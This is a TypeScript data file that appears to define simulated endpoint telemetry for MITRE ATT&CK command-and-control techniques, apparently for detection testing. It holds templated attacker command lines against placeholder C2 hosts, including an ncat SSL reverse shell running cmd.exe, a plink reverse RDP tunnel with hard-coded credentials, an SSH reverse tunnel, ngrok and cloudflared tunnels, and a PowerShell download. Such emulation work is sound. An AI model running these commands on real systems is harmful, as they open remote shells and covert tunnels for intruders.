import { t, v } from "../dsl";

/** Command and control: implant traffic and tunnelling tools as they appear on the endpoint. (continued) */
export const commandAndControlB = [
  t("T1571", "Non-standard port", "HTTP(S) C2 on unusual ports.", [
    v("implant-port", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["{{c2ip}}", 8443]], keep: true }], {
      shell: "none",
    }),
    v("ps-port", [{ ps: "iwr http://{{c2}}:8080/a -UseBasicParsing", net: [["{{c2}}", 8080]] }], {
      shell: "ps",
    }),
  ]),
  t("T1572", "Protocol tunneling", "SSH/plink, ngrok or Cloudflare tunnels out of the network.", [
    v("plink", [
      {
        cmd: "{{tools}}\\plink.exe -ssh -R 4444:127.0.0.1:3389 -l root -pw P@ss {{c2ip}} -P 443",
        net: [["{{c2ip}}", 443]],
      },
    ]),
    v("ngrok", [
      { cmd: "{{tools}}\\ngrok.exe tcp 3389 --authtoken {{rand2}}", net: [["tunnel.us.ngrok.com", 443]] },
    ]),
    v("cloudflared", [
      {
        cmd: "{{tools}}\\cloudflared.exe tunnel run --token {{rand2}}{{rand2}}",
        net: [["region1.v2.argotunnel.com", 7844]],
      },
    ]),
    v("ssh-reverse", [
      {
        cmd: "ssh.exe -N -R 9050 -p 443 -o StrictHostKeyChecking=no root@{{c2ip}}",
        image: "C:\\Windows\\System32\\OpenSSH\\ssh.exe",
        net: [["{{c2ip}}", 443]],
      },
    ]),
  ]),
  t("T1573", "Encrypted channel", "TLS C2 with a self-signed certificate.", [
    v("tls", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["{{c2}}", 443]], keep: true }], { shell: "none" }),
  ]),
  t("T1573.001", "Symmetric cryptography", "RC4/AES-encrypted C2.", [
    v("rc4", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["{{c2ip}}", 443]], keep: true }], { shell: "none" }),
  ]),
  t("T1573.002", "Asymmetric cryptography", "TLS via openssl/ncat --ssl reverse shell.", [
    v("ncat-ssl", [{ cmd: "{{tools}}\\ncat.exe --ssl {{c2ip}} 443 -e cmd.exe", net: [["{{c2ip}}", 443]] }]),
  ]),
  t("T1665", "Hide infrastructure", "C2 behind CDN/cloud front ends.", [
    v("cdn", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["{{rand}}.cloudfront.net", 443]], keep: true }], {
      shell: "none",
    }),
  ]),
];
